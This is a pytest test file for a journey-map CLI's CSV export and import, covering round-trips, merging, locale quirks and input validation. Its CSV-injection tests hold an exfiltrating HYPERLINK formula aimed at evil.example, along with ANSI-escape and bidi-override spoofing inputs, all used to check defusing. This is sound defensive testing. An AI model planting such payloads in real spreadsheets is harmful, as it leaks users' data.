"""`jmap export` / `jmap import`: the spreadsheet round-trip."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from helpers import CLEAN, EXAMPLES, run_jmap
from journeymap_cli.io.loader import Loader
from journeymap_cli.sheets.columns import Vocabulary


def touchpoints(path: Path) -> list[tuple[str, dict[str, object]]]:
    """Every touchpoint's fields, channels and owners by name (as the sheet shows them)."""
    loaded = Loader().load_map(path)
    assert loaded.jmap is not None, loaded.diagnostics
    channels, teams = Vocabulary(loaded.jmap.channels), Vocabulary(loaded.jmap.teams)
    out = []
    for stage in loaded.jmap.stages:
        for point in stage.touchpoints:
            # format 1.1 touchpoint quotes have no column in the sheet; `backstage` as
            # written neither: the sheet carries the layer it means (`layer` holds it)
            fields = point.model_dump(exclude={"quotes", "backstage"})
            fields["channel"] = channels.shown(point.channel) or None
            fields["owner"] = teams.shown(point.owner) or None
            out.append((stage.id or "", fields))
    return out


@pytest.mark.parametrize("example", sorted(p.name for p in EXAMPLES.glob("*.jmap.yaml")))
def test_export_then_import_keeps_every_touchpoint_field(workdir: Path, example: str) -> None:
    sheet = workdir / "sheet.csv"
    exported = run_jmap("export", str(EXAMPLES / example), "-o", str(sheet))
    assert exported.exit_code == 0, exported.stderr
    imported = run_jmap("import", "sheet.csv", "-o", "back.jmap.yaml", "--title", "Back")
    assert imported.exit_code == 0, imported.stdout + imported.stderr
    assert run_jmap("validate", "back.jmap.yaml").exit_code == 0
    assert touchpoints(workdir / "back.jmap.yaml") == touchpoints(EXAMPLES / example)


def test_one_row_per_touchpoint_with_documented_columns(workdir: Path) -> None:
    (workdir / "m.jmap.yaml").write_text(
        CLEAN.replace("[Photo rules unclear]", '["Photo rules unclear; twice", "Slow"]')
    )
    rows = list(csv.DictReader(io.StringIO(run_jmap("export", "m.jmap.yaml").stdout)))
    assert len(rows) == 2
    first = rows[0]
    assert (first["stage"], first["touchpoint"], first["moment_of_truth"]) == (
        "Applying",
        "Fills in the online form",
        "yes",
    )
    # one item per line in the cell, as Alt+Enter writes them; a ";" stays a ";"
    assert first["pain_points"] == "Photo rules unclear; twice\nSlow"


def test_a_stage_without_touchpoints_survives(workdir: Path) -> None:
    (workdir / "s.csv").write_text("stage,touchpoint\nWaiting,\nApplying,Fills in the form\n")
    assert run_jmap("import", "s.csv", "-o", "m.jmap.yaml").exit_code == 0
    loaded = Loader().load_map(workdir / "m.jmap.yaml")
    assert loaded.jmap is not None
    assert [(s.name, len(s.touchpoints)) for s in loaded.jmap.stages] == [
        ("Waiting", 0),
        ("Applying", 1),
    ]


def test_bad_rows_and_unknown_columns_are_reported_by_number(workdir: Path) -> None:
    (workdir / "a.csv").write_text("stage,touchpoint,perfomance\nS,T,3\n")
    result = run_jmap("import", "a.csv", "-o", "m.jmap.yaml")
    assert result.exit_code == 1
    assert "a.csv:1:3: unknown column 'perfomance'; did you mean 'performance'?" in result.stdout
    (workdir / "b.csv").write_text(
        "stage,touchpoint,performance,target,moment_of_truth\n"
        "S,Fine,3,4,yes\n"
        "S,Bad rating,nine,4,no\n"
        "S,Off scale,3,7,maybe\n"
    )
    result = run_jmap("import", "b.csv", "-o", "m.jmap.yaml")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "b.csv:3:3: performance 'nine' is not a whole number",
        "b.csv:4:4: target 7 is off the scale 1-5",
        "b.csv:4:5: moment_of_truth 'maybe' is not yes or no",
    ]
    assert not (workdir / "m.jmap.yaml").exists()


def test_control_characters_are_refused_where_they_are(workdir: Path) -> None:
    """A cell, --title or --persona carrying a control character (an ANSI escape, say)
    would make a map jmap refuses (JM003): the import names it and writes nothing."""
    (workdir / "s.csv").write_text("stage,touchpoint,notes\nS,T\x1b[2J,ok\nS,U,bell\x07\n")
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "s.csv:2:2: touchpoint: control character U+001B is not allowed",
        "s.csv:3:3: notes: control character U+0007 is not allowed",
    ]
    (workdir / "s.csv").write_text("stage,touchpoint\nS,T\n")
    for option, value, message in [
        ("--title", "Evil\x1b]0;title\x07", "--title: control character U+001B is not allowed"),
        ("--persona", "Bad \udc9b bytes", "--persona: not valid UTF-8"),
    ]:
        result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml", option, value)
        assert result.exit_code == 2
        assert result.stderr == f"jmap: error: {message}\n"
    assert not (workdir / "m.jmap.yaml").exists()


def test_import_refuses_to_overwrite_and_checks_names(workdir: Path) -> None:
    (workdir / "s.csv").write_text("stage,touchpoint\nS,T\n")
    (workdir / "m.jmap.yaml").write_text("keep")
    assert run_jmap("import", "s.csv", "-o", "m.jmap.yaml").exit_code == 2
    assert (workdir / "m.jmap.yaml").read_text() == "keep"
    assert run_jmap("import", "s.csv", "-o", "m.jmap.yaml", "--force").exit_code == 0
    assert run_jmap("import", "s.csv", "-o", "m.yaml").exit_code == 2
    assert run_jmap("import", "missing.csv", "-o", "x.jmap.yaml").exit_code == 2


def test_duplicate_touchpoint_ids_are_reported(workdir: Path) -> None:
    (workdir / "s.csv").write_text("stage,touchpoint\nS,Same\nT,Same\n")
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml")
    assert result.exit_code == 1
    assert result.stdout == (
        "s.csv:3:2: touchpoint id 'same' is also on row 2: give one of them another id\n"
    )


def test_export_of_an_invalid_map_fails(workdir: Path) -> None:
    (workdir / "m.jmap.yaml").write_text("jmap: 1\n")
    result = run_jmap("export", "m.jmap.yaml")
    assert result.exit_code == 1 and "JM002" in result.stderr


def write_sheet(path: Path, rows: list[dict[str, str]]) -> None:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(out.getvalue())


def test_merge_updates_touchpoints_and_keeps_everything_else(workdir: Path) -> None:
    original = "# a comment about the map\n" + CLEAN.replace(
        "        owner: Digital\n", "        owner: Digital  # since 2025\n"
    )
    (workdir / "m.jmap.yaml").write_text(original)
    sheet = run_jmap("export", "m.jmap.yaml").stdout
    rows = list(csv.DictReader(io.StringIO(sheet)))
    assert [r["id"] for r in rows] == ["fills-in-the-online-form", "collects-at-the-counter"]
    rows[0]["performance"] = "4"  # rated again in the workshop
    rows[0]["pain_points"] = "Photo rules unclear; Upload times out"
    rows[1]["stage"], rows[1]["stage_id"] = "Applying", "applying"  # moved
    rows.append(
        {
            **rows[1],
            "touchpoint": "Books an appointment",
            "id": "",
            "owner": "Front office",
            "stage": "Collecting",
            "stage_id": "collecting",
            "performance": "2",
        }
    )
    write_sheet(workdir / "s.csv", rows)

    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml", "--merge")
    assert result.exit_code == 0, result.stdout + result.stderr
    merged = (workdir / "m.jmap.yaml").read_text()
    assert "# a comment about the map" in merged and "# since 2025" in merged
    assert "goals: [Renew before a trip]" in merged  # persona kept
    assert "thoughts: [Hope the photo is accepted]" in merged  # lanes kept
    loaded = Loader().load_map(workdir / "m.jmap.yaml")
    assert loaded.jmap is not None and not loaded.diagnostics
    stages = {s.id: s for s in loaded.jmap.stages}
    assert [p.id for p in stages["applying"].touchpoints] == [
        "fills-in-the-online-form",
        "collects-at-the-counter",
    ]
    assert stages["applying"].touchpoints[0].performance == 4
    assert stages["applying"].touchpoints[0].pain_points == [
        "Photo rules unclear",
        "Upload times out",
    ]
    assert [p.name for p in stages["collecting"].touchpoints] == ["Books an appointment"]
    assert stages["collecting"].emotion == 4  # the stage's own fields stay


def test_merge_refuses_a_missing_or_invalid_map(workdir: Path) -> None:
    (workdir / "s.csv").write_text("stage,touchpoint\nS,T\n")
    assert run_jmap("import", "s.csv", "-o", "none.jmap.yaml", "--merge").exit_code == 2
    (workdir / "bad.jmap.yaml").write_text("jmap: 1\n")
    result = run_jmap("import", "s.csv", "-o", "bad.jmap.yaml", "--merge")
    assert result.exit_code == 2 and "not a valid map" in result.stderr
    assert (workdir / "bad.jmap.yaml").read_text() == "jmap: 1\n"


@pytest.mark.parametrize(
    "layout", [(2, 4, 2), (4, 6, 4), (2, 2, 0), (4, 4, 0)], ids=["canonical", "4", "2-0", "4-0"]
)
@pytest.mark.parametrize("example", sorted(p.name for p in EXAMPLES.glob("*.jmap.yaml")))
def test_merging_an_unchanged_export_changes_nothing(
    workdir: Path, example: str, layout: tuple[int, int, int]
) -> None:
    """Whatever the file's indentation (4 spaces, dashes flush with the key), it is kept."""
    import shutil

    from journeymap_cli.fmt.rewrite import Layout, dump, load

    shutil.copytree(EXAMPLES, workdir / "maps")
    path = workdir / "maps" / example
    path.write_text(dump(load(path.read_text()), Layout(*layout)))
    before = path.read_text()
    assert run_jmap("export", str(path), "-o", "s.csv").exit_code == 0
    result = run_jmap("import", "s.csv", "-o", str(path), "--merge")
    assert result.exit_code == 0, result.stdout + result.stderr
    assert "unchanged" in result.stderr
    assert path.read_text() == before


def test_merge_keeps_the_files_own_indentation(workdir: Path) -> None:
    """A workshop re-rates one touchpoint of a 4-space map: one line changes."""
    from journeymap_cli.fmt.rewrite import Layout, dump, load

    path = workdir / "m.jmap.yaml"
    original = dump(load(CLEAN), Layout(mapping=4, sequence=6, offset=4))
    path.write_text(original)
    rows = list(csv.DictReader(io.StringIO(run_jmap("export", "m.jmap.yaml").stdout)))
    rows[1]["performance"] = "2"
    write_sheet(workdir / "s.csv", rows)
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml", "--merge")
    assert result.exit_code == 0, result.stdout + result.stderr
    before, after = original.splitlines(), path.read_text().splitlines()
    assert [i for i, (a, b) in enumerate(zip(before, after, strict=True)) if a != b] == [
        before.index("            performance: 4")
    ]
    assert after[before.index("            performance: 4")] == "            performance: 2"


# ---- CSV as spreadsheets write it ----------------------------------------------------------


def test_list_items_one_per_line_and_the_old_form_are_both_read(workdir: Path) -> None:
    (workdir / "s.csv").write_text(
        "stage,touchpoint,pain_points,evidence\n"
        'S,New form,"Slow\nConfusing, twice",Interview 3\n'
        "S,Old form,Slow; Confusing \\; twice,\n"
        "S,One item,Semicolon\\; kept,\n"
    )
    assert run_jmap("import", "s.csv", "-o", "m.jmap.yaml").exit_code == 0
    loaded = Loader().load_map(workdir / "m.jmap.yaml")
    assert loaded.jmap is not None
    assert [p.pain_points for p in loaded.jmap.stages[0].touchpoints] == [
        ["Slow", "Confusing, twice"],
        ["Slow", "Confusing ; twice"],
        ["Semicolon; kept"],
    ]
    # and back: one item per line; a single item with a ";" keeps its escape in a CSV
    rows = list(csv.DictReader(io.StringIO(run_jmap("export", "m.jmap.yaml").stdout)))
    assert [r["pain_points"] for r in rows] == [
        "Slow\nConfusing, twice",
        "Slow\nConfusing ; twice",
        "Semicolon\\; kept",
    ]


@pytest.mark.parametrize(
    ("delimiter", "rating"), [(",", "3.0"), (";", "3,0"), ("\t", "3"), (";", "3")]
)
def test_delimiter_bom_crlf_and_integral_decimals(
    workdir: Path, delimiter: str, rating: str
) -> None:
    """What Excel writes in a German or French locale: ';', a BOM, CRLF and '3,0'."""
    rows = [
        ["Stage", "Touchpoint", "Performance", "Pain points", "Channel"],
        ["Buying", "Pays at the till", rating, "Queue; slow card reader", "Phone"],
    ]
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    (workdir / "s.csv").write_bytes(b"\xef\xbb\xbf" + out.getvalue().encode())
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml")
    assert result.exit_code == 0, result.stdout + result.stderr
    loaded = Loader().load_map(workdir / "m.jmap.yaml")
    assert loaded.jmap is not None
    point = loaded.jmap.stages[0].touchpoints[0]
    assert (point.performance, point.pain_points, point.channel) == (
        3,
        ["Queue", "slow card reader"],
        "Phone",
    )


def test_a_decimal_rating_that_is_not_whole_is_refused(workdir: Path) -> None:
    (workdir / "s.csv").write_text("stage;touchpoint;target\nS;T;3,5\nS;U;4.0\n")
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml")
    assert result.stdout == "s.csv:2:3: target '3,5' is not a whole number\n"


def test_channels_and_owners_are_exported_by_name_and_read_by_name_or_id(workdir: Path) -> None:
    from helpers import VALID

    text = VALID.replace(
        "channels: [Website, Phone]", "channels: [{id: web, name: Website}, Phone]"
    )
    text = text.replace("channel: Website", "channel: web")
    (workdir / "m.jmap.yaml").write_text(text)
    rows = list(csv.DictReader(io.StringIO(run_jmap("export", "m.jmap.yaml").stdout)))
    assert [(r["channel"], r["owner"]) for r in rows] == [
        ("Website", "Marketing"),
        ("Phone", "Sales"),
    ]
    rows[0]["channel"] = "WEB"  # by id, any case: the same channel, nothing changes
    rows[1]["channel"] = "phone"
    write_sheet(workdir / "s.csv", rows)
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml", "--merge")
    assert result.exit_code == 0, result.stdout + result.stderr
    assert (workdir / "m.jmap.yaml").read_text() == text
    rows[1]["channel"] = "Fax"
    write_sheet(workdir / "s.csv", rows)
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml", "--merge")
    assert result.exit_code == 1
    assert result.stdout == (
        "s.csv:3:5: channel 'Fax' is not one of the map's channels (declared: Website, Phone)\n"
    )


def test_the_scale_comes_from_the_map_or_from_the_scale_option(workdir: Path) -> None:
    (workdir / "s.csv").write_text("stage,touchpoint,performance,target\nS,T,6,7\n")
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml")
    assert result.stdout == "s.csv:2:3: performance 6 is off the scale 1-5\n" + (
        "s.csv:2:4: target 7 is off the scale 1-5\n"
    )
    assert run_jmap("import", "s.csv", "-o", "m.jmap.yaml", "--scale", "1-7").exit_code == 0
    assert "scale: {min: 1, max: 7}" in (workdir / "m.jmap.yaml").read_text()
    # merged back unchanged: the map's own scale is used (no "off the scale 1-5")
    assert run_jmap("export", "m.jmap.yaml", "-o", "back.csv").exit_code == 0
    result = run_jmap("import", "back.csv", "-o", "m.jmap.yaml", "--merge")
    assert result.exit_code == 0 and "unchanged" in result.stderr
    for bad in ("7-1", "one-five", "1"):
        result = run_jmap("import", "s.csv", "-o", "n.jmap.yaml", "--scale", bad)
        assert result.exit_code == 2 and result.stderr.startswith("jmap: error: --scale: ")
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml", "--merge", "--scale", "1-7")
    assert result.exit_code == 2 and "with --merge the map's own are kept" in result.stderr


# ---- formula cells (OWASP "CSV injection") --------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed",
    "'=already quoted",
    "'plain quote",
]


def test_formula_cells_are_defused_on_export_and_restored_on_import(workdir: Path) -> None:
    from journeymap_cli.fmt.rewrite import dump, load

    data = load(CLEAN)
    data["title"] = FORMULAS[0]
    point = data["stages"][0]["touchpoints"][0]
    point["name"] = FORMULAS[1]
    point["notes"] = FORMULAS[2]
    point["pain_points"] = FORMULAS[3:]
    (workdir / "m.jmap.yaml").write_text(dump(data))
    assert run_jmap("validate", "m.jmap.yaml").exit_code == 0
    sheet = run_jmap("export", "m.jmap.yaml").stdout
    row = next(csv.DictReader(io.StringIO(sheet)))
    assert row["touchpoint"] == "'+1+1" and row["notes"] == "'-2+3"
    assert row["pain_points"] == "'@SUM(A1:A2)\n\tTabbed\n'=already quoted\n'plain quote"
    for cell in csv.reader(io.StringIO(sheet)):
        for value in cell:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    (workdir / "s.csv").write_text(sheet)
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml", "--merge")
    assert result.exit_code == 0 and "unchanged" in result.stderr, result.stdout
    assert run_jmap("import", "s.csv", "-o", "n.jmap.yaml").exit_code == 0
    assert touchpoints(workdir / "n.jmap.yaml") == touchpoints(workdir / "m.jmap.yaml")


def test_score_csv_defuses_a_formula_title(workdir: Path) -> None:
    (workdir / "m.jmap.yaml").write_text(
        CLEAN.replace("title: Renewing a passport", f"title: '{FORMULAS[0]}'")
    )
    result = run_jmap("score", "m.jmap.yaml", "--format", "csv")
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["title"] == "'" + FORMULAS[0]


def test_defuse_and_restore_are_inverse() -> None:
    from journeymap_cli.report.cells import defuse, restore

    for text in [*FORMULAS, "", "'", "''=x", "plain", "3", "=", "\rx", "a=b"]:
        assert restore(defuse(text)) == text
        assert not defuse(text).startswith(("=", "+", "-", "@", "\t", "\r"))


# ---- limits and located errors ---------------------------------------------------------------


def test_a_sheet_over_max_bytes_is_refused_before_reading(workdir: Path) -> None:
    (workdir / "s.csv").write_text("stage,touchpoint\n" + "S,T\n" * 1000)
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml", "--max-bytes", "1000")
    assert result.exit_code == 1
    assert result.stdout.startswith("s.csv:1:1: 4,017 bytes, over the limit of 1,000 (max-bytes)")
    assert not (workdir / "m.jmap.yaml").exists()


def test_a_map_over_max_bytes_is_never_written(workdir: Path) -> None:
    """A sheet under the limit can make a bigger map (YAML spells out every key)."""
    rows = "".join(f"S,Touchpoint {i},{i % 5 + 1},{i % 5 + 1},{i % 5 + 1}\n" for i in range(300))
    (workdir / "s.csv").write_text("stage,touchpoint,performance,target,importance\n" + rows)
    size = (workdir / "s.csv").stat().st_size
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml", "--max-bytes", str(size + 10))
    assert result.exit_code == 1
    assert "over the limit" in result.stdout and "nothing written" in result.stdout
    assert not (workdir / "m.jmap.yaml").exists()


def test_an_unterminated_quote_and_bad_ids_are_reported_at_their_row(workdir: Path) -> None:
    (workdir / "s.csv").write_text(
        'stage,stage_id,touchpoint,id\nS,s,Fine,fine\nS,s,Bad id,Not An Id\nS,S 2,T,t\nS,s,"Open\n'
        "S,s,more,more\n"
    )
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "s.csv:3:4: id 'Not An Id' is not an id (lower-case letters, digits, - or _)",
        "s.csv:4:2: stage_id 'S 2' is not an id (lower-case letters, digits, - or _)",
        "s.csv:5:1: a quoted cell opened on this row is never closed",
    ]


def test_export_and_import_refuse_to_overwrite_their_input(workdir: Path) -> None:
    (workdir / "m.jmap.yaml").write_text(CLEAN)
    result = run_jmap("export", "m.jmap.yaml", "-o", "m.jmap.yaml")
    assert result.exit_code == 2 and "the output is the map being exported" in result.stderr
    result = run_jmap("export", "m.jmap.yaml", "-o", "./m.jmap.yaml", "--format", "csv")
    assert result.exit_code == 2
    assert (workdir / "m.jmap.yaml").read_text() == CLEAN


def test_bytes_that_are_not_utf8_are_reported_at_their_line(workdir: Path) -> None:
    (workdir / "s.csv").write_bytes(b"stage,touchpoint\nS,Fine\nS,Caf\xe9 (Latin-1)\n")
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml")
    assert result.exit_code == 1
    assert result.stdout == (
        "s.csv:3:1: not UTF-8 text: save the sheet as 'CSV UTF-8' (or export it as .xlsx)"
        " (line 3 of the file)\n"
    )
    (workdir / "e.csv").write_bytes(b"")
    assert run_jmap("import", "e.csv", "-o", "m.jmap.yaml").stdout == (
        "e.csv:1:1: the sheet is empty\n"
    )


def test_an_unclosed_quote_in_the_header_is_a_problem(workdir: Path) -> None:
    """Found by the fuzz test: a header line that opens a quoted cell."""
    (workdir / "s.csv").write_text('"\n')
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml")
    assert result.exit_code == 1
    assert result.stdout.startswith("s.csv:1:1: the header row is not CSV: ")


def test_a_bidi_override_in_a_cell_is_refused_at_its_cell(workdir: Path) -> None:
    (workdir / "s.csv").write_text("stage,touchpoint,notes\nS,T,see \u202etxt.exe\n")
    result = run_jmap("import", "s.csv", "-o", "m.jmap.yaml")
    assert result.exit_code == 1
    assert (
        result.stdout == "s.csv:2:3: notes: bidirectional control character U+202E is not allowed\n"
    )


def test_a_persona_path_names_a_file_from_the_new_map_s_folder(workdir: Path) -> None:
    """`--persona` is relative to the map; a path typed from the shell's folder for a map in
    a subfolder used to write a map that validate refuses (JM009) with exit 0."""
    (workdir / "personas").mkdir()
    (workdir / "personas" / "sam.persona.yaml").write_text("name: Sam\n")
    (workdir / "maps").mkdir()
    (workdir / "s.csv").write_text("stage,touchpoint\nS,T\n")
    result = run_jmap(
        "import", "s.csv", "-o", "maps/m.jmap.yaml", "--persona", "personas/sam.persona.yaml"
    )
    assert result.exit_code == 2
    assert result.stderr == (
        "jmap: error: --persona: 'personas/sam.persona.yaml' does not exist in the map's"
        " folder 'maps' (a persona path is relative to the map); from there it is"
        " --persona ../personas/sam.persona.yaml\n"
    )
    assert not (workdir / "maps" / "m.jmap.yaml").exists()
    result = run_jmap(
        "import", "s.csv", "-o", "maps/m.jmap.yaml", "--persona", "../personas/sam.persona.yaml"
    )
    assert result.exit_code == 0, result.stderr
    assert run_jmap("validate", "maps/m.jmap.yaml").exit_code == 0
    missing = run_jmap("import", "s.csv", "-o", "n.jmap.yaml", "--persona", "x.persona.yaml")
    assert missing.exit_code == 2 and "'x.persona.yaml' does not exist" in missing.stderr
    assert run_jmap("import", "s.csv", "-o", "n.jmap.yaml", "--persona", "Sam").exit_code == 0


def test_importing_a_map_says_it_is_a_map(workdir: Path) -> None:
    """`jmap import MAP.jmap.yaml` (export's arguments, swapped) was read as a CSV: 'unknown
    column jmap:_1', 'missing column stage'. It is a usage error that names both commands."""
    (workdir / "m.jmap.yaml").write_text(CLEAN)
    result = run_jmap("import", "m.jmap.yaml", "-o", "n.jmap.yaml")
    assert result.exit_code == 2
    assert result.stderr == (
        "jmap: error: m.jmap.yaml is a map, not a sheet: `jmap export m.jmap.yaml -o"
        " SHEET.xlsx` writes its sheet; `jmap import SHEET.xlsx -o MAP.jmap.yaml` reads one"
        " back\n"
    )
    assert not (workdir / "n.jmap.yaml").exists()
